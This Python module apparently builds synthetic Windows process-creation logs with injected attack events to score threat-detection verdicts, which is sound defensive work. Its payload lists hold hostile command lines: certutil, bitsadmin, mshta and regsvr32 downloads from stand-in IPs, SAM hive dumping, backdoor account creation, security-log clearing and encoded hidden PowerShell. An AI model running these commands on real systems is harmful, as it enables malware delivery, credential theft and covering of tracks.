"""Synthetic multi-day process-creation telemetry with injected attacks, and scoring of verdicts against it."""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass, field
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Iterable, Mapping, Sequence

import numpy as np

from .errors import ConfigError, CoverageError
from .ingest import PROCESS_CREATION, format_timestamp

ATTACK_KINDS = (
    "path-variation",
    "unusual-parameter-combo",
    "wrong-asset",
    "unexpected-parent",
    "burst-executions",
    "rare-binary",
)

SYSTEM_ACCOUNT = ("system", "nt authority")


@dataclass
class CommandTemplate:
    command_line: str
    image: str
    parent: str
    frequency: float = 1.0
    # "user": run by the asset's interactive users; "system": by the local system account
    account: str = "user"
    # which assets run it: "all", "server" or "workstation"
    role: str = "all"

    @property
    def process_name(self) -> str:
        return self.image.rsplit("\\", 1)[-1]


@dataclass
class ScheduledCommand:
    """A command pinned to one asset and user that runs a fixed number of times every day."""

    command: CommandTemplate
    asset: int
    user: int
    per_day: int = 1


def _cmd(command_line, image, parent, frequency=1.0, account="user", role="all"):
    return CommandTemplate(command_line, image, parent, frequency, account, role)


SYS32 = "c:\\windows\\system32\\"

DEFAULT_BASELINE = [
    _cmd("c:\\windows\\system32\\svchost.exe -k netsvcs -p", SYS32 + "svchost.exe", "services.exe", 12, "system"),
    _cmd("c:\\windows\\system32\\svchost.exe -k localservice -p", SYS32 + "svchost.exe", "services.exe", 8, "system"),
    _cmd("\\??\\c:\\windows\\system32\\conhost.exe 0xffffffff -forcev1", SYS32 + "conhost.exe", "cmd.exe", 10),
    _cmd("c:\\windows\\system32\\wbem\\wmiprvse.exe -embedding", SYS32 + "wbem\\wmiprvse.exe", "svchost.exe", 6, "system"),
    _cmd("taskhostw.exe", SYS32 + "taskhostw.exe", "svchost.exe", 5, "system"),
    _cmd("sc.exe query wuauserv", SYS32 + "sc.exe", "cmd.exe", 4),
    _cmd("schtasks.exe /query /fo list /v", SYS32 + "schtasks.exe", "cmd.exe", 3),
    _cmd("tasklist.exe /svc", SYS32 + "tasklist.exe", "cmd.exe", 3),
    _cmd("ipconfig.exe /all", SYS32 + "ipconfig.exe", "cmd.exe", 3),
    _cmd("ping.exe -n 1 dc01", SYS32 + "ping.exe", "cmd.exe", 2),
    _cmd("whoami.exe", SYS32 + "whoami.exe", "cmd.exe", 2),
    _cmd("hostname.exe", SYS32 + "hostname.exe", "cmd.exe", 2),
    _cmd(
        "powershell.exe -noprofile -executionpolicy bypass -file c:\\scripts\\healthcheck.ps1",
        SYS32 + "windowspowershell\\v1.0\\powershell.exe",
        "svchost.exe",
        2,
        "system",
    ),
    _cmd(
        "\"c:\\programdata\\microsoft\\windows defender\\platform\\mpcmdrun.exe\" -signatureupdate",
        "c:\\programdata\\microsoft\\windows defender\\platform\\mpcmdrun.exe",
        "svchost.exe",
        1,
        "system",
    ),
    _cmd("gpupdate.exe /target:computer", SYS32 + "gpupdate.exe", "svchost.exe", 1, "system"),
    # workstations
    _cmd("cmd.exe /c dir c:\\windows\\temp", SYS32 + "cmd.exe", "explorer.exe", 4, role="workstation"),
    _cmd("net.exe use", SYS32 + "net.exe", "cmd.exe", 1.5, role="workstation"),
    _cmd("notepad.exe c:\\logs\\app.log", SYS32 + "notepad.exe", "explorer.exe", 1.5, role="workstation"),
    _cmd("explorer.exe", "c:\\windows\\explorer.exe", "userinit.exe", 1, role="workstation"),
    _cmd(
        "rundll32.exe c:\\windows\\system32\\shell32.dll,control_rundll",
        SYS32 + "rundll32.exe",
        "explorer.exe",
        1,
        role="workstation",
    ),
    _cmd(
        "\"c:\\program files\\microsoft office\\root\\office16\\outlook.exe\"",
        "c:\\program files\\microsoft office\\root\\office16\\outlook.exe",
        "explorer.exe",
        2,
        role="workstation",
    ),
    # servers
    _cmd("sc.exe queryex type= service state= all", SYS32 + "sc.exe", "cmd.exe", 3, role="server"),
    _cmd("net.exe user", SYS32 + "net.exe", "cmd.exe", 2, role="server"),
    _cmd("reg.exe query hklm\\software\\microsoft\\windows\\currentversion\\run", SYS32 + "reg.exe", "cmd.exe", 1, role="server"),
    _cmd("wevtutil.exe qe system /c:10 /f:text", SYS32 + "wevtutil.exe", "cmd.exe", 1, role="server"),
    _cmd("certutil.exe -verify c:\\certs\\server.cer", SYS32 + "certutil.exe", "cmd.exe", 1, role="server"),
    _cmd(
        "robocopy.exe d:\\data \\\\backup01\\share /mir /r:1 /w:1",
        SYS32 + "robocopy.exe",
        "svchost.exe",
        1,
        "system",
        role="server",
    ),
]


def _task(command_line, image, asset, user, per_day=1):
    return ScheduledCommand(_cmd(command_line, image, "taskeng.exe"), asset, user, per_day)


DEFAULT_SCHEDULED = [
    # the admin self-test: rare corpus-wide, yet routine for its one asset
    _task("cmd.exe /c c:\\admin\\selftest\\run_probe.cmd --quick --report", SYS32 + "cmd.exe", 7, 0),
    _task("wbadmin.exe start systemstatebackup -backuptarget:e: -quiet", SYS32 + "wbadmin.exe", 0, 1),
    _task("repadmin.exe /showrepl * /csv", SYS32 + "repadmin.exe", 0, 0),
    _task("sqlcmd.exe -s localhost -q \"exec dbo.nightly_maintenance\"", "c:\\program files\\sql\\sqlcmd.exe", 1, 2, 2),
    _task("appcmd.exe list apppool /state:started", SYS32 + "inetsrv\\appcmd.exe", 2, 0),
    _task("vssadmin.exe list shadows /for=d:", SYS32 + "vssadmin.exe", 3, 1),
    _task("java.exe -jar c:\\apps\\batch\\nightly-export.jar --since=24h", "c:\\program files\\java\\bin\\java.exe", 4, 0),
    _task("wbadmin.exe get versions -backuptarget:f:", SYS32 + "wbadmin.exe", 5, 1),
    _task("cscript.exe //nologo c:\\admin\\inventory.vbs /upload", SYS32 + "cscript.exe", 9, 0),
    _task("defrag.exe c: /o /h", SYS32 + "defrag.exe", 12, 0),
    _task("msiexec.exe /i c:\\deploy\\agent-update.msi /qn", SYS32 + "msiexec.exe", 15, 0),
    _task("powercfg.exe /batteryreport /output c:\\admin\\battery.html", SYS32 + "powercfg.exe", 18, 0),
]

SERVER_NAMES = ["dc01", "sql01", "web01", "file01", "app01", "backup01"]
USER_NAMES = [
    "it-admin", "svc_backup", "svc_sql", "jlee", "mgarcia", "apatel", "bwilson", "cchen",
    "dkim", "enguyen", "fmartin", "gsmith", "hlopez", "iwang", "jbrown", "kjones",
]  # fmt: skip


@dataclass
class WorkloadSpec:
    n_assets: int = 20
    n_users: int = 15
    days: int = 7
    cmds_per_asset_day: int = 107
    jitter: float = 0.1
    seed: int = 7
    start_date: str = "2026-03-02"
    domain: str = "corp"
    baseline_commands: list[CommandTemplate] = field(default_factory=lambda: list(DEFAULT_BASELINE))
    scheduled_commands: list[ScheduledCommand] = field(default_factory=lambda: list(DEFAULT_SCHEDULED))
    # share of non-process-creation records mixed in (dropped by ingestion)
    noise_fraction: float = 0.0
    secondary_user_share: float = 0.2

    def __post_init__(self):
        if self.days < 7:
            raise ConfigError("a workload needs >= 7 days (5-day history plus 2-day threshold window)")
        if min(self.n_assets, self.n_users, self.cmds_per_asset_day) < 1:
            raise ConfigError("n_assets, n_users and cmds_per_asset_day must be positive")
        if any(t.frequency <= 0 for t in self.baseline_commands) or not self.baseline_commands:
            raise ConfigError("baseline command frequencies must be positive")
        if any(t.role not in ("all", "server", "workstation") for t in self.baseline_commands):
            raise ConfigError("command role must be all, server or workstation")
        if not 0 <= self.jitter < 1:
            raise ConfigError("jitter must lie in [0, 1)")
        for s in self.scheduled_commands:
            if not (0 <= s.asset < self.n_assets and 0 <= s.user < self.n_users):
                raise ConfigError("scheduled command targets a nonexistent asset or user")

    @property
    def first_day(self) -> date:
        return date.fromisoformat(self.start_date)

    def asset_names(self) -> list[str]:
        names = SERVER_NAMES[: min(len(SERVER_NAMES), self.n_assets)]
        return names + [f"ws-{i:03d}" for i in range(1, self.n_assets - len(names) + 1)]

    def user_names(self) -> list[str]:
        base = USER_NAMES
        return [base[i] if i < len(base) else f"user{i:03d}" for i in range(self.n_users)]

    def is_server(self, asset: int) -> bool:
        return asset < min(len(SERVER_NAMES), self.n_assets)

    def templates_for(self, asset: int) -> list[CommandTemplate]:
        kind = "server" if self.is_server(asset) else "workstation"
        return [t for t in self.baseline_commands if t.role in ("all", kind)] or list(self.baseline_commands)

    def asset_users(self, asset: int) -> tuple[int, int]:
        return asset % self.n_users, (asset + 7) % self.n_users

    def to_dict(self) -> dict:
        return asdict(self)

    @classmethod
    def from_dict(cls, data: Mapping) -> "WorkloadSpec":
        data = dict(data)
        if "baseline_commands" in data:
            data["baseline_commands"] = [CommandTemplate(**c) for c in data["baseline_commands"]]
        if "scheduled_commands" in data:
            data["scheduled_commands"] = [
                ScheduledCommand(CommandTemplate(**s["command"]), s["asset"], s["user"], s.get("per_day", 1))
                for s in data["scheduled_commands"]
            ]
        unknown = set(data) - set(cls.__dataclass_fields__)
        if unknown:
            raise ConfigError(f"unknown workload keys: {', '.join(sorted(unknown))}")
        return cls(**data)


def _apportion(total: int, weights: np.ndarray) -> np.ndarray:
    """Largest-remainder split of ``total`` proportional to ``weights``."""
    exact = total * weights / weights.sum()
    counts = np.floor(exact).astype(int)
    short = total - counts.sum()
    order = np.lexsort((np.arange(len(weights)), -(exact - counts)))
    counts[order[:short]] += 1
    return counts


def _event(ts: datetime, device: str, user: tuple[str, str], cmd: CommandTemplate, rid: str, event_id: int = PROCESS_CREATION) -> dict:
    return {
        "timestamp": format_timestamp(ts),
        "event_id": event_id,
        "account_name": user[0],
        "account_domain": user[1],
        "device_id": device,
        "parent_process_name": cmd.parent,
        "process_name": cmd.process_name,
        "command_line": cmd.command_line,
        "file_path": cmd.image,
        "record_id": rid,
    }


def _rid(rng: np.random.Generator) -> str:
    return "%016x" % int(rng.integers(0, 2**63))


def _sort(log: list[dict]) -> list[dict]:
    return sorted(log, key=lambda r: (r["timestamp"], r["record_id"]))


def generate_workload(spec: WorkloadSpec) -> list[dict]:
    """Baseline telemetry: every asset runs ``cmds_per_asset_day`` (+/- jitter) commands a day.

    The daily total is split over the baseline templates by largest remainder
    on their relative frequencies, so frequent templates run every day on
    every asset; scheduled commands are added on top.  Deterministic in
    ``spec.seed``.
    """
    rng = np.random.default_rng(spec.seed)
    assets = spec.asset_names()
    users = spec.user_names()
    log = []
    for day_idx in range(spec.days):
        day_start = datetime.combine(spec.first_day + timedelta(days=day_idx), datetime.min.time(), tzinfo=timezone.utc)
        for a, device in enumerate(assets):
            templates = spec.templates_for(a)
            weights = np.array([t.frequency for t in templates], dtype=float)
            primary, secondary = spec.asset_users(a)
            total = spec.cmds_per_asset_day
            if spec.jitter:
                total = max(1, int(round(total * (1 + rng.uniform(-spec.jitter, spec.jitter)))))
            for tmpl, count in zip(templates, _apportion(total, weights)):
                for _ in range(count):
                    if tmpl.account == "system":
                        who = SYSTEM_ACCOUNT
                    else:
                        u = secondary if rng.random() < spec.secondary_user_share else primary
                        who = (users[u], spec.domain)
                    ts = day_start + timedelta(seconds=int(rng.integers(0, 86400)))
                    log.append(_event(ts, device, who, tmpl, _rid(rng)))
        for sched in spec.scheduled_commands:
            for _ in range(sched.per_day):
                ts = day_start + timedelta(seconds=int(rng.integers(0, 86400)))
                log.append(_event(ts, assets[sched.asset], (users[sched.user], spec.domain), sched.command, _rid(rng)))
    if spec.noise_fraction > 0:
        n_noise = int(round(len(log) * spec.noise_fraction))
        for _ in range(n_noise):
            src = log[int(rng.integers(len(log)))]
            noise = dict(src, event_id=4624, record_id=_rid(rng), command_line="", parent_process_name="", process_name="", file_path="")
            log.append(noise)
    return _sort(log)


# attack payload constructors, indexed by ``AttackTemplate.variant``
RARE_BINARIES = [
    _cmd("certutil.exe -urlcache -split -f http://203.0.113.7/u.bin c:\\users\\public\\u.exe", SYS32 + "certutil.exe", "cmd.exe"),
    _cmd(
        "bitsadmin.exe /transfer job7 /download /priority high http://198.51.100.9/a.ps1 c:\\windows\\temp\\a.ps1",
        SYS32 + "bitsadmin.exe",
        "cmd.exe",
    ),
    _cmd("mshta.exe http://203.0.113.50/page.hta", SYS32 + "mshta.exe", "explorer.exe"),
    _cmd("regsvr32.exe /s /n /u /i:http://198.51.100.20/file.sct scrobj.dll", SYS32 + "regsvr32.exe", "cmd.exe"),
    _cmd(
        "installutil.exe /logfile= /logtoconsole=false /u c:\\users\\public\\payload.dll",
        "c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\installutil.exe",
        "cmd.exe",
    ),
]
PATH_VARIATIONS = [
    _cmd("c:\\windows\\temp\\svchost.exe -k netsvcs -p", "c:\\windows\\temp\\svchost.exe", "services.exe"),
    _cmd(
        "powershell.exe -noprofile -executionpolicy bypass -file c:\\scripts\\heaithcheck.ps1",
        SYS32 + "windowspowershell\\v1.0\\powershell.exe",
        "svchost.exe",
    ),
    _cmd("c:\\programdata\\conhost.exe 0xffffffff -forcev1", "c:\\programdata\\conhost.exe", "cmd.exe"),
    _cmd("c:\\users\\public\\taskhostw.exe", "c:\\users\\public\\taskhostw.exe", "svchost.exe"),
]
PARAMETER_COMBOS = [
    _cmd(
        "powershell.exe -nop -w hidden -enc sqbfafgaiaaoae4azqb3ac0atwbiagoazqbjahqa",
        SYS32 + "windowspowershell\\v1.0\\powershell.exe",
        "cmd.exe",
    ),
    _cmd("reg.exe save hklm\\sam c:\\windows\\temp\\sam.save /y", SYS32 + "reg.exe", "cmd.exe"),
    _cmd("net.exe user helpdesk2 p@ssw0rd! /add /domain", SYS32 + "net.exe", "cmd.exe"),
    _cmd(
        "schtasks.exe /create /sc minute /mo 5 /tn updater /tr c:\\users\\public\\u.exe /ru system",
        SYS32 + "schtasks.exe",
        "cmd.exe",
    ),
    _cmd("wevtutil.exe cl security", SYS32 + "wevtutil.exe", "cmd.exe"),
]
UNEXPECTED_PARENTS = [
    _cmd("cmd.exe /c ipconfig /all", SYS32 + "cmd.exe", "w3wp.exe"),
    _cmd("powershell.exe -c get-process", SYS32 + "windowspowershell\\v1.0\\powershell.exe", "winword.exe"),
    _cmd("cmd.exe /c whoami /priv", SYS32 + "cmd.exe", "excel.exe"),
    _cmd("cmd.exe /c net group \"domain admins\"", SYS32 + "cmd.exe", "acrord32.exe"),
]


@dataclass
class AttackTemplate:
    kind: str
    injection_day: int
    target_asset: int
    target_user: int | None = None
    variant: int = 0
    count: int = 1

    def __post_init__(self):
        if self.kind not in ATTACK_KINDS:
            raise ConfigError(f"unknown attack kind {self.kind!r}")
        if self.count < 1:
            raise ConfigError("attack count must be >= 1")


def attack_command(template: AttackTemplate, spec: WorkloadSpec) -> CommandTemplate:
    kind, v = template.kind, template.variant
    if kind == "rare-binary":
        return RARE_BINARIES[v % len(RARE_BINARIES)]
    if kind == "path-variation":
        return PATH_VARIATIONS[v % len(PATH_VARIATIONS)]
    if kind == "unusual-parameter-combo":
        return PARAMETER_COMBOS[v % len(PARAMETER_COMBOS)]
    if kind == "unexpected-parent":
        return UNEXPECTED_PARENTS[v % len(UNEXPECTED_PARENTS)]
    if kind == "wrong-asset":
        # a command pinned to some other asset
        foreign = [s.command for s in spec.scheduled_commands if s.asset != template.target_asset]
        if not foreign:
            raise ConfigError("wrong-asset attack needs a scheduled command pinned to a different asset")
        return foreign[v % len(foreign)]
    # burst-executions: an everyday command, run far more often than usual
    return spec.baseline_commands[v % len(spec.baseline_commands)]


def inject_attacks(
    log: Sequence[dict], templates: Iterable[AttackTemplate], spec: WorkloadSpec, seed: int | None = None
) -> tuple[list[dict], list[dict]]:
    """Interleave attack events into ``log``; returns (new log, ground truth).

    Ground truth rows are ``{"event_ref", "kind"}``; nothing in the emitted
    events marks them as injected.
    """
    templates = list(templates)
    if not templates:
        return list(log), []
    rng = np.random.default_rng([spec.seed if seed is None else seed, 0xA77AC])
    assets = spec.asset_names()
    users = spec.user_names()
    out = list(log)
    truth = []
    for t in templates:
        if not 0 <= t.target_asset < spec.n_assets:
            raise ConfigError(f"attack targets nonexistent asset #{t.target_asset}")
        if not 0 <= t.injection_day < spec.days:
            raise ConfigError(f"injection day {t.injection_day} outside the {spec.days}-day log")
        user = t.target_user if t.target_user is not None else spec.asset_users(t.target_asset)[0]
        if not 0 <= user < spec.n_users:
            raise ConfigError(f"attack targets nonexistent user #{user}")
        cmd = attack_command(t, spec)
        day_start = datetime.combine(spec.first_day + timedelta(days=t.injection_day), datetime.min.time(), tzinfo=timezone.utc)
        # working hours, so attack timestamps look like ordinary activity
        base = int(rng.integers(8 * 3600, 18 * 3600))
        for i in range(t.count):
            ts = day_start + timedelta(seconds=min(86399, base + i * int(rng.integers(1, 20))))
            ev = _event(ts, assets[t.target_asset], (users[user], spec.domain), cmd, _rid(rng))
            out.append(ev)
            truth.append({"event_ref": ev["record_id"], "kind": t.kind})
    return _sort(out), truth


def drill_attacks(spec: WorkloadSpec) -> list[AttackTemplate]:
    """Twelve single-event attacks, three for each of four kinds, over the last two days."""
    kinds = ("rare-binary", "path-variation", "unusual-parameter-combo", "unexpected-parent")
    out = []
    for i in range(12):
        kind = kinds[i % 4]
        out.append(
            AttackTemplate(
                kind=kind,
                injection_day=spec.days - 1 - (i % 2),
                target_asset=(3 * i + 2) % spec.n_assets,
                variant=i // 4,
            )
        )
    return out


def default_scenario() -> tuple[WorkloadSpec, list[AttackTemplate]]:
    spec = WorkloadSpec(noise_fraction=0.01)
    return spec, drill_attacks(spec)


def simulate(spec: WorkloadSpec, attacks: Sequence[AttackTemplate]) -> tuple[list[dict], list[dict]]:
    return inject_attacks(generate_workload(spec), attacks, spec)


def write_jsonl(rows: Iterable[Mapping], path: str | Path) -> None:
    with open(path, "w") as fh:
        for row in rows:
            fh.write(json.dumps(row, sort_keys=True) + "\n")


def read_jsonl(path: str | Path) -> list[dict]:
    with open(path) as fh:
        return [json.loads(line) for line in fh if line.strip()]


@dataclass
class Metrics:
    tp: int
    fp: int
    fn: int
    tn: int
    precision: float
    recall: float
    snr: float
    precision_undefined: bool = False
    recall_undefined: bool = False
    detected_by_kind: dict = field(default_factory=dict)

    def to_dict(self) -> dict:
        return asdict(self)


def evaluate(verdicts: Iterable[Mapping], ground_truth: Iterable[Mapping]) -> Metrics:
    """Confusion counts with TruePositive verdicts treated as alerts.

    SNR is alert precision.  With no alerts precision (and so SNR) is
    reported as 1.0 and flagged undefined; likewise recall with no positives.
    """
    classes = {v["event_ref"]: v["classification"] for v in verdicts}
    truth = {g["event_ref"]: g.get("kind", "") for g in ground_truth}
    missing = [r for r in truth if r not in classes]
    if missing:
        raise CoverageError(f"{len(missing)} ground-truth events have no verdict (e.g. {missing[0]})", stage="evaluate")
    tp = fp = fn = tn = 0
    by_kind: dict[str, list[int]] = {}
    for ref, cls in classes.items():
        alert = cls == "TruePositive"
        if ref in truth:
            hit = by_kind.setdefault(truth[ref], [0, 0])
            hit[1] += 1
            if alert:
                tp += 1
                hit[0] += 1
            else:
                fn += 1
        elif alert:
            fp += 1
        else:
            tn += 1
    p_undef = tp + fp == 0
    r_undef = tp + fn == 0
    precision = 1.0 if p_undef else tp / (tp + fp)
    recall = 1.0 if r_undef else tp / (tp + fn)
    return Metrics(
        tp, fp, fn, tn, precision, recall, precision, p_undef, r_undef, {k: f"{a}/{b}" for k, (a, b) in sorted(by_kind.items())}
    )
